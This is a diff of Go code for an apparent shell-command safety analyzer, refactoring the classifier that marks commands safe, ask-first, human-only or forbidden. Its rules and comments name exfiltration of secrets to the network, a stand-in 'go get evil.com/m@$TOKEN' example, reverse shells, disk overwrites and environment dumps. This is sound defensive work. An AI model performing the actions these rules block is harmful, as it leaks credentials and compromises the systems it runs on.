@@ -112,8 +112,71 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			}
 		}
 	}
-	safe := func(why string) { f.safe = reason("gate.safe", why) }
 	s.or(a.subcmdEffects(f, idx, lb, args))
+	c := plainCall{a: a, f: f, idx: idx, lb: lb, args: args, sc: sc, s: s}
+	switch { // the first family with an arm for the command decides it
+	case c.shellState(), c.shellVars(), c.shellRuns(), c.readers(), c.searches(), c.files(), c.infra(), c.builds():
+	}
+	if c.done {
+		return c.s // jobs -x: the inner command's summary
+	}
+	c.prints()
+	s = c.s
+	if reads, writes, ok := socatLocal(lb, args); ok {
+		// socat FILE:a FILE:b is a copy, like cp: its files are read and written
+		for _, w := range reads {
+			a.readWord(w, sc, idx, false)
+		}
+		for _, w := range writes {
+			a.writeWord(w, sc, idx)
+		}
+	} else if (netTools[lb] || lookupSubcmd(uploaders, lb, args) || reachesNetwork(lb, args)) && !(lb == "rsync" && !remoteArgs(args)) { // a local rsync is a copy
+		s.or(a.network(f, idx, lb, args, sc))
+	} else if !parsedOptions[lb] {
+		a.flagValueSecrets(lb, args, sc, idx, nil)
+	}
+	for _, w := range args {
+		if w.taint && s.net || w.secretName != "" && s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
+			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
+		}
+		// git clone, pip install -i, npm i URL fetch the URL they are given:
+		// a token in it goes to that host as surely as with curl
+		if w.secretName != "" && urlFetchers[lb] {
+			h := urlHost(w.val)
+			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
+				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
+			}
+			if h != "" && secretOffService(w.secretName, []string{h}) {
+				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
+			}
+		}
+	}
+	return s
+}
+
+// plainCall is one command plain() decides: its fact, words and scope,
+// and the summary built so far. Its arms are grouped by family, in the
+// order plain's one switch had them, so the first arm that matches wins.
+type plainCall struct {
+	a    *analyzer
+	f    *rfact
+	idx  int
+	lb   string
+	args []word
+	sc   *scope
+	s    summary
+	done bool // s is the call's summary and nothing after the arms applies
+}
+
+// safe makes the command known-safe.
+func (c *plainCall) safe(why string) { c.f.safe = reason("gate.safe", why) }
+
+// shellState reads the builtins and commands that change the shell's state or its
+// persistence: cd, alias, direnv allow, hook installers, ssh-keygen, printenv.
+// It reports whether one of its arms matched.
+func (c *plainCall) shellState() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
 	switch {
 	case lb == "cd" || lb == "pushd" || lb == "chdir":
 		ops := operands(args, nil)
@@ -129,7 +192,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		default:
 			sc.cwd = a.resolvePath(args[ops[0]].val, sc.cwd, false).abs
 		}
-		safe("changes directory")
+		c.safe("changes directory")
 	case lb == "alias":
 		// alias NAME=VALUE: the value runs wherever NAME is called later
 		for _, w := range args {
@@ -151,7 +214,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			f.safe = reason("gate.wrapper", "defines aliases; their values are analysed")
 		}
 	case lb == "unalias":
-		safe("removes aliases")
+		c.safe("removes aliases")
 	case lb == "direnv" && len(args) > 0 && (args[0].val == "allow" || args[0].val == "permit" || args[0].val == "grant"):
 		f.human = reason("human.persistence-write", "direnv allow lets .envrc run in every new shell")
 	case lb == "pre-commit" && len(args) > 0 && (args[0].val == "install" || args[0].val == "install-hooks") ||
@@ -164,7 +227,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		}
 	case lb == "popd":
 		sc.cwd = ""
-		safe("changes directory")
+		c.safe("changes directory")
 	case lb == "printenv":
 		// printenv NAME… prints those variables only, like echo "$NAME":
 		// human-only for the whole environment or a name that holds a secret
@@ -175,8 +238,21 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			f.human = reason("human.env-dump", "prints the environment")
 			s.taint = true
 		} else {
-			safe("printenv prints the named variables")
+			c.safe("printenv prints the named variables")
 		}
+	default:
+		return false
+	}
+	return true
+}
+
+// shellVars reads the builtins that print or fill variables and the command
+// table: set, hash, mapfile -C, history, compgen.
+// It reports whether one of its arms matched.
+func (c *plainCall) shellVars() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
+	switch {
 	case lb == "set":
 		switch {
 		case len(args) == 0:
@@ -195,7 +271,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			}
 			// set -a exports what builtins assign later (printf -v GIT_PAGER)
 			a.allexport = a.allexport || hasShort(args, "a") || hasWord(args, "allexport")
-			safe("sets shell options")
+			c.safe("sets shell options")
 		}
 	case lb == "hash":
 		// hash -p PATH NAME: NAME now runs PATH
@@ -209,7 +285,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			}
 		}
 		if f.ask == nil {
-			safe("lists or clears the command hash table")
+			c.safe("lists or clears the command hash table")
 		}
 	case (lb == "mapfile" || lb == "readarray" || lb == "compgen") && len(optionValues(args, 'C', "")) > 0:
 		// mapfile -C CODE, compgen -C CODE: the shell runs CODE
@@ -241,6 +317,19 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 	case lb == "compgen" && hasFlag(args, "-v", "-e"):
 		f.human = reason("human.env-dump", "lists the environment")
 		s.taint = true
+	default:
+		return false
+	}
+	return true
+}
+
+// shellRuns reads the builtins that run what the shell keeps: trap, shopt,
+// ulimit, jobs -x, and sysctl NAME=VALUE.
+// It reports whether one of its arms matched.
+func (c *plainCall) shellRuns() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
+	switch {
 	case lb == "trap":
 		// trap's first argument is code the shell runs later
 		ops := operands(args, nil)
@@ -259,7 +348,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				s.or(branch(sc, func(in *scope) summary { return a.reparseIn(w.val, in, idx) }))
 			}
 		} else {
-			safe("lists traps")
+			c.safe("lists traps")
 		}
 	case lb == "shopt":
 		// glob, history and message options; others (lastpipe, cdable_vars,
@@ -269,10 +358,10 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			ok = ok && !w.dyn && (strings.HasPrefix(w.val, "-") || harmlessShopt[w.val])
 		}
 		if ok || hasShort(args, "pq") && !hasShort(args, "su") {
-			safe("sets glob or history options")
+			c.safe("sets glob or history options")
 		}
 	case (lb == "ulimit" || lb == "umask") && len(operands(args, nil)) == 0 && !hasFlag(args, "-"):
-		safe(lb + " without a value only prints it")
+		c.safe(lb + " without a value only prints it")
 	case lb == "jobs" && hasShort(args, "x"):
 		// jobs -x CMD ARGS runs CMD
 		for i, w := range args {
@@ -280,7 +369,8 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				f.wrapper = true
 				f.safe = reason("gate.wrapper", "jobs -x runs the inner command, which is analysed")
 				if i+1 < len(args) {
-					return a.inner(args[i+1:], sc, idx)
+					c.s, c.done = a.inner(args[i+1:], sc, idx), true
+					return true
 				}
 				break
 			}
@@ -288,6 +378,19 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 	case lb == "sysctl" && slices.ContainsFunc(args, func(w word) bool { return strings.Contains(w.val, "=") }):
 		// sysctl NAME=VALUE writes /proc/sys like -w does
 		f.human = reason("human.system-write", "sysctl changes a kernel setting")
+	default:
+		return false
+	}
+	return true
+}
+
+// readers reads the programs that read or print: info printers, the table's
+// readers, pagers, block tools.
+// It reports whether one of its arms matched.
+func (c *plainCall) readers() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
+	switch {
 	case otherTools[lb]:
 		s.or(a.otherTool(f, idx, lb, args, sc))
 	case noOperand[lb]:
@@ -321,7 +424,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			s.taint = true
 		case lb == "hostname" && len(operands(args, nil)) > 0:
 		default:
-			safe(lb + " is read-only")
+			c.safe(lb + " is read-only")
 		}
 	case cmds.Reader(lb) != nil:
 		if out := a.reader(f, idx, lb, args, sc); out != nil {
@@ -345,6 +448,18 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				f.floor = reason("floor.disk-write", lb+" rewrites a disk device")
 			}
 		}
+	default:
+		return false
+	}
+	return true
+}
+
+// searches reads the searches and the languages: grep, sed, awk, jq, fd.
+// It reports whether one of its arms matched.
+func (c *plainCall) searches() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
+	switch {
 	case lb == "grep" || lb == "egrep" || lb == "fgrep" || lb == "rg" || lb == "ag" || lb == "ack" || lb == "zgrep":
 		a.grep(f, idx, lb, args, sc)
 	case lb == "sed" || lb == "gsed":
@@ -363,7 +478,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			f.ask = reason("ask.flag", "fd --exec runs a command")
 			opts = args[:x]
 		} else {
-			safe("fd only lists")
+			c.safe("fd only lists")
 		}
 		ops := operands(opts, fdVal)
 		var roots []word
@@ -386,12 +501,24 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				a.execOverTree(f, idx, lb, cmd, roots, fdRepl(), sc)
 			}
 		}
+	default:
+		return false
+	}
+	return true
+}
+
+// files reads the programs that write, delete or move files, and the
+// services, package, formatter and infrastructure tools.
+// It reports whether one of its arms matched.
+func (c *plainCall) files() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	switch {
 	case lb == "tee":
 		for _, i := range operands(args, nil) {
 			a.writeWord(args[i], sc, idx)
 		}
 		if len(operands(args, nil)) == 0 {
-			safe("tee without files")
+			c.safe("tee without files")
 		}
 	case lb == "rm" || lb == "rmdir" || lb == "unlink" || lb == "shred" || lb == "srm" || lb == "trash" || lb == "trash-put" || lb == "rimraf" || lb == "del-cli":
 		how := rmPlain
@@ -423,7 +550,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		f.floor = reason("floor.reverse-shell", lb+" exposes a shell to the network")
 	case lb == "crontab":
 		if hasFlag(args, "-l") && len(args) == 1 {
-			safe("crontab -l only lists")
+			c.safe("crontab -l only lists")
 		} else {
 			f.human = reason("human.persistence-write", "changes the crontab")
 		}
@@ -437,7 +564,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			if hasLongAbbrev(args, "--host", "--machine") || hasShort(args, "HM") {
 				f.ask = reason("ask.flag", lb+" --host connects to another machine over ssh")
 			} else {
-				safe(lb + " only inspects")
+				c.safe(lb + " only inspects")
 			}
 		}
 	case lb == "npm" || lb == "pnpm" || lb == "yarn":
@@ -449,14 +576,14 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		if ops := operands(args, nil); len(ops) > 0 {
 			a.readWord(args[ops[0]], sc, idx, false)
 		}
-		safe("zipinfo only lists an archive")
+		c.safe("zipinfo only lists an archive")
 	case lb == "ss":
 		// ss -ltnp lists sockets; -K kills them, and -F, -D, -f, -A, -N
 		// and filter expressions take values
 		if !slices.ContainsFunc(args, func(w word) bool {
 			return w.dyn || len(w.val) < 2 || w.val[0] != '-' || strings.Trim(w.val[1:], "ltuanpxw46eimsrHOo") != ""
 		}) {
-			safe("ss only lists sockets")
+			c.safe("ss only lists sockets")
 		}
 	case lb == "gofmt":
 		// -w rewrites the files; -l, -d, -s only print
@@ -472,10 +599,22 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 			}
 		}
 		if !hasShort(args, "w") && len(flagValues(args, "-cpuprofile")) == 0 {
-			safe("gofmt without -w only prints")
+			c.safe("gofmt without -w only prints")
 		}
 	case lb == "eslint" || lb == "prettier":
 		a.fixer(f, idx, lb, args, sc)
+	default:
+		return false
+	}
+	return true
+}
+
+// infra reads the infrastructure and build tools that delete or run: terraform,
+// kubectl, dropdb, cloud deletes, build-tool flags, cargo.
+// It reports whether one of its arms matched.
+func (c *plainCall) infra() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	switch {
 	case lb == "terraform" || lb == "tofu" || lb == "pulumi" || lb == "cdk" || lb == "cdktf" || lb == "sst" || lb == "serverless" || lb == "sls":
 		if hasWord(args, "destroy") || hasWord(args, "remove") || hasFlag(args, "-destroy", "--destroy") {
 			f.human = reason("human.teardown", lb+" destroys infrastructure")
@@ -521,6 +660,17 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				}
 			}
 		}
+	default:
+		return false
+	}
+	return true
+}
+
+// builds reads go, make, the container tools, patch, shuf and the archivers.
+// It reports whether one of its arms matched.
+func (c *plainCall) builds() bool {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	switch {
 	case lb == "go":
 		a.goCmd(f, idx, args, sc)
 	case lb == "make" || lb == "gmake":
@@ -529,12 +679,12 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		if len(args) > 0 {
 			switch args[0].val {
 			case "ps", "images", "version", "info", "logs", "port":
-				safe(lb + " " + args[0].val + " only inspects")
+				c.safe(lb + " " + args[0].val + " only inspects")
 			case "compose":
 				// compose ps/logs are docker ps/logs of the project's
 				// services; compose config would print the interpolated .env
 				if len(args) > 1 && (args[1].val == "ps" || args[1].val == "logs" || args[1].val == "version" || args[1].val == "ls") {
-					safe(lb + " compose " + args[1].val + " only inspects")
+					c.safe(lb + " compose " + args[1].val + " only inspects")
 				}
 				if slices.ContainsFunc(args[1:], func(w word) bool { return w.val == "config" }) && !hasFlag(args, "--no-interpolate") {
 					// it prints the compose file with the project's .env filled in
@@ -542,7 +692,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				}
 			case "network", "volume":
 				if len(args) == 2 && args[1].val == "ls" {
-					safe(lb + " " + args[0].val + " ls only lists")
+					c.safe(lb + " " + args[0].val + " ls only lists")
 				}
 			case "build", "buildx", "image":
 				a.dockerBuild(f, idx, args, sc)
@@ -552,7 +702,7 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 				if tmpl := optionValues(args, 'f', "--format"); len(tmpl) == 0 || slices.ContainsFunc(tmpl, dockerTemplateMayPrintEnv) {
 					f.ask = reason("ask.flag", lb+" inspect prints container environment variables")
 				} else {
-					safe(lb + " inspect prints the fields its template names")
+					c.safe(lb + " inspect prints the fields its template names")
 				}
 			case "cp":
 				a.copyOut(args[1:], sc, idx)
@@ -583,10 +733,21 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		}
 	case lb == "tar" || lb == "unzip" || lb == "gunzip" || lb == "zip" || lb == "gzip" || lb == "7z" || lb == "7za" || lb == "7zr" || lb == "bsdtar":
 		a.archive(f, idx, lb, args, sc)
+	default:
+		return false
 	}
+	return true
+}
+
+// prints says what the command prints when it is known-safe: its version,
+// or names of project files (and whether they may be secrets' names)
+// for what reads its output.
+func (c *plainCall) prints() {
+	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
+	s := &c.s
 	if f.safe == nil && f.ask == nil && f.human == nil && f.floor == nil && versionTools[lb] && len(args) == 1 &&
 		(args[0].val == "--version" || args[0].val == "-V" || args[0].val == "version" || args[0].val == "-version") {
-		safe(lb + " prints its version")
+		c.safe(lb + " prints its version")
 	}
 	switch {
 	case (lb == "rg" || lb == "grep" || lb == "fd" || lb == "fdfind") && f.safe != nil &&
@@ -627,36 +788,6 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 		s.secretList = s.projList && a.stdin.secretList && (lb != "grep" && lb != "rg" || filterMayKeepSecret(lb, args))
 		s.broadList = s.secretList && a.stdin.broadList && lb != "grep" && lb != "rg"
 	}
-	if reads, writes, ok := socatLocal(lb, args); ok {
-		// socat FILE:a FILE:b is a copy, like cp: its files are read and written
-		for _, w := range reads {
-			a.readWord(w, sc, idx, false)
-		}
-		for _, w := range writes {
-			a.writeWord(w, sc, idx)
-		}
-	} else if (netTools[lb] || lookupSubcmd(uploaders, lb, args) || reachesNetwork(lb, args)) && !(lb == "rsync" && !remoteArgs(args)) { // a local rsync is a copy
-		s.or(a.network(f, idx, lb, args, sc))
-	} else if !parsedOptions[lb] {
-		a.flagValueSecrets(lb, args, sc, idx, nil)
-	}
-	for _, w := range args {
-		if w.taint && s.net || w.secretName != "" && s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
-			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
-		}
-		// git clone, pip install -i, npm i URL fetch the URL they are given:
-		// a token in it goes to that host as surely as with curl
-		if w.secretName != "" && urlFetchers[lb] {
-			h := urlHost(w.val)
-			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
-				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
-			}
-			if h != "" && secretOffService(w.secretName, []string{h}) {
-				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
-			}
-		}
-	}
-	return s
 }
 
 // urlFetchers are package managers and VCS tools that fetch a URL operand
